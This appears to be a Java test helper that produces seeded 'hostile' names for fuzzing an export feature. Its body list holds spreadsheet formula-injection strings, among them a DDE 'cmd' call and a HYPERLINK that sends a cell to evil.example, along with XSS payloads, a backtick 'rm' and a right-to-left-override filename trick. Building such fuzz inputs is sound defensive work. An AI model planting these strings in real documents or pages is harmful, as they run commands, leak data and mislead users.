package glidepath.exports;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// Names that want to be more than names: generated, the same from the same seed.
final class HostileNames {

    private static final List<String> BEFORE = List.of("", " ", "\t", "\r", "\n", "\r\n", "\u00A0", "\u3000", "\uFEFF", "\u200B", "\u202E",
            "\u2066", "\u0000", "\u0001",
            "\u001B[31m", "\u0007", "\u0085", "\u2028", "\u00AD", "\u034F", "\u3164", "\u2800", "\uFFFE", "\uD800", "\"", "'", "''", ",",
                    ";", "|", "x;", "x,", "x\t", "x\n", "a|");
    private static final List<String> SIGNS = List.of("=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\uFE66", "\uFE63",
            "\u2212", "", "#", "%");
    private static final List<String> BODIES = List.of("1+1", "SUM(A1)", "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "</td></tr></table>", "]]>", "<!--", "a|b\n# c", "[x](javascript:alert(1))", "`rm`",
                    "\"quoted\", with comma", "&amp;&#0;", "'!A1", "[Book]Sheet",
            "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd", "\uD83D\uDE80\uD83E\uDDD1\u200D\uD83D\uDE80", "\u202Etxt.exe",
                    "\tb", "\nb", "\rb", "\u0002", "x".repeat(300), "\uD83D\uDE80".repeat(40), "");

    private HostileNames() {
    }

    /// @param count how many, each another
    static List<String> of(int count) {
        var random = new Random(20261125);
        var names = new ArrayList<String>();
        for (int number = 0; names.size() < count; number++) {
            String name = any(random, BEFORE) + any(random, BEFORE) + any(random, SIGNS) + any(random, BODIES) + any(random, BEFORE);
            names.add(name.isBlank() ? name + number : name);
        }
        return names;
    }

    private static String any(Random random, List<String> parts) {
        return parts.get(random.nextInt(parts.size()));
    }
}
